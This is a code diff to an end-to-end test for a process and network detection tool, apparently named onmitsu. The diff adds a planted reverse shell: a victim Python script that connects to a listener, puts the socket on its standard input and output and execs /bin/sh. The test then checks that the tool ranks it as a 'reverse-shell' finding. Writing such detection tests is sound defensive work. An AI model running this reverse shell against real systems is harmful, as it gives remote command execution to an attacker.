@@ -7,7 +7,9 @@ recorder runs, for about 27 s,
 - planted: a beacon every 1 s +-20 % from a program copied to /tmp (a copy of
   python3) to a listener in a network namespace; a web server
   (`python3 -m http.server --cgi`) running a CGI script, so that it starts a
-  shell; a payload run from a memfd that connects out;
+  shell; a payload run from a memfd that connects out; a reverse shell (a
+  process connects to a listener in the namespace, puts the socket on its
+  stdin, stdout and stderr and execs /bin/sh; the listener sends `id; exit`);
 - ordinary: curl every 2 s from /usr/bin (a cron-like job, a new process each
   time), and a long-lived session from /usr/bin/python3 (as ssh's).
 
@@ -22,6 +24,7 @@ not an assertion: the issue's 3 s is measured, not tested).
 Needs root and chromium (scripts/setup). Ends with "N passed, N failed".
 Usage: tests/e2e/test_hunt.py [NAME-SUBSTRING]
 """
+import csv
 import html as html_lib
 from html.parser import HTMLParser
 import json
@@ -41,6 +44,7 @@ from harness import BUILD, ONMITSU, sh  # noqa: E402
 
 HOST4, PEER4 = "192.0.2.177", "192.0.2.178"
 BEACON_PORT, HTTP_PORT, MEMFD_PORT, SESSION_PORT = 8443, 8080, 4444, 2222
+REVSHELL_PORT = 9001
 ARTIFACTS = os.path.join(BUILD, "e2e-artifacts")
 # text from the log that looks like references: the page must show it, not load it
 OUTSIDE_TEXT = "https://203.0.113.9/x.css?src=url(@import)"
@@ -138,6 +142,31 @@ time.sleep(20)
 s.close()
 """ % {"peer": PEER4, "port": SESSION_PORT}
 
+# the reverse shell's two ends: the attacker's listener (in the namespace;
+# sends a command, prints the answer; bounded) and the victim's process
+REVSHELL_LISTENER = r"""
+import socket, time
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind((%(peer)r, %(port)d)); s.listen(1); s.settimeout(20)
+print("listening", flush=True)
+c, _ = s.accept(); c.settimeout(10); c.sendall(b"id; exit\n")
+out, end = b"", time.time() + 10
+while time.time() < end:
+    b = c.recv(4096)
+    if not b:
+        break
+    out += b
+print(out.decode(errors="replace").strip(), flush=True)
+""" % {"peer": PEER4, "port": REVSHELL_PORT}
+
+REVSHELL = r"""
+import os, socket
+s = socket.create_connection((%(peer)r, %(port)d), 5)
+for fd in (0, 1, 2):
+    os.dup2(s.fileno(), fd)
+os.execv("/bin/sh", ["sh"])
+""" % {"peer": PEER4, "port": REVSHELL_PORT}
+
 NET = harness.Netns("hunt", HOST4, [PEER4], 28)
 
 
@@ -202,7 +231,7 @@ def scenario(log_dir, work):
                                    str(port)], cwd=web, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL)
         procs.append(server)
-        curl_pids = []
+        curl_pids, revshell_pid = [], None
         for i in range(12):  # ordinary: curl every 2 s; the planted cases in between
             c = subprocess.Popen(["/usr/bin/curl", "-s", "-m", "2",
                                   "http://%s:%d/" % (PEER4, HTTP_PORT)],
@@ -222,6 +251,8 @@ def scenario(log_dir, work):
                     raise AssertionError("the CGI script did not run: %r" % body)
             if i == 6:
                 sh(PYTHON, "-c", MEMFD, timeout=30)
+            if i == 8:
+                revshell_pid = reverse_shell()
             time.sleep(2)
         beacon.wait(timeout=40)
         session.wait(timeout=30)
@@ -233,7 +264,36 @@ def scenario(log_dir, work):
                 p.kill()
                 p.wait()
         rec.stop()
-    return {"updater": updater, "curl_pids": curl_pids, "session_pid": session.pid}
+    return {"updater": updater, "curl_pids": curl_pids, "session_pid": session.pid,
+            "revshell_pid": revshell_pid}
+
+
+def reverse_shell():
+    """The attacker's listener in the namespace, the victim's shell here;
+    returns the shell's pid once the listener had the answer to `id`."""
+    lst = subprocess.Popen(NET.exec + [PYTHON, "-c", REVSHELL_LISTENER], stdout=subprocess.PIPE,
+                           text=True)
+    try:
+        if lst.stdout.readline().strip() != "listening":
+            raise AssertionError("the reverse shell's listener did not start")
+        victim = subprocess.Popen([PYTHON, "-c", REVSHELL])
+        victim.wait(timeout=30)
+        answer = lst.stdout.readline().strip()
+        lst.wait(timeout=30)
+    finally:
+        if lst.poll() is None:
+            lst.kill()
+            lst.wait()
+    if "uid=" not in answer:
+        raise AssertionError("the reverse shell did not answer: %r" % answer)
+    return victim.pid
+
+
+def exec_detail(log_dir, pid):
+    """detail of the EXEC records of pid in the log, as dicts"""
+    with open(os.path.join(log_dir, "onmitsu.csv"), newline="", encoding="utf-8") as f:
+        return [dict(kv.split("=", 1) for kv in r["detail"].split())
+                for r in csv.DictReader(f) if r["event"] == "EXEC" and r["pid"] == str(pid)]
 
 
 def test_hunt_ranks_planted_above_ordinary_and_report_renders():
@@ -261,6 +321,8 @@ def test_hunt_ranks_planted_above_ordinary_and_report_renders():
             "beacon from /tmp": [f for f in findings if exe(f) == s["updater"]],
             "web server -> shell": [f for f in findings if f["kind"] == "server-shell"],
             "memfd payload": [f for f in findings if f["kind"] == "memfd-network"],
+            "reverse shell": [f for f in findings if f["kind"] == "reverse-shell" and
+                              pid(f) == s["revshell_pid"]],
         }
         summary = "\n".join("  %.3f %s %s" % (f["score"], f["kind"], f["reason"][:150])
                             for f in findings)
@@ -277,6 +339,17 @@ def test_hunt_ranks_planted_above_ordinary_and_report_renders():
         if not cases["web server -> shell"][0]["related"] or \
                 "http.server" not in cases["web server -> shell"][0]["related"]["cmdline"]:
             raise AssertionError("server-shell names no server: %r" % cases["web server -> shell"])
+        # the shell's EXEC: its descriptors were the connection to the listener
+        shells = [d for d in exec_detail(log_dir, s["revshell_pid"])
+                  if d.get("stdio_peer") == "%s:%d" % (PEER4, REVSHELL_PORT)]
+        if len(shells) != 1 or (shells[0].get("stdin"), shells[0].get("stdout")) != \
+                ("tcp", "tcp"):
+            raise AssertionError("the reverse shell's EXEC: %r" % shells)
+        rs = cases["reverse shell"][0]
+        if rs["dst"] != {"ip": PEER4, "port": REVSHELL_PORT, "proto": "tcp"} or \
+                "%s:%d" % (PEER4, REVSHELL_PORT) not in rs["reason"] or \
+                rs["records_total"] < 2 or rs["score"] < 0.95:
+            raise AssertionError("the reverse shell's finding: %r" % rs)
         worst_planted = min(max(f["score"] for f in fs) for fs in cases.values())
         best_ordinary = max([f["score"] for f in ordinary] or [0])
         print("    planted (worst case's best) %.3f > ordinary (best) %.3f" %
@@ -296,6 +369,7 @@ def test_hunt_ranks_planted_above_ordinary_and_report_renders():
                                  OUTSIDE_TEXT)
         dom = browse(page, "--dump-dom")
         for want in (s["updater"], "server-shell", "memfd-network", "/memfd:payload",
+                     "reverse-shell",
                      "%s:%d" % (PEER4, BEACON_PORT), "/usr/bin/dash", "id=\"findings\"",
                      "data-load-ms="):
             if want not in dom:
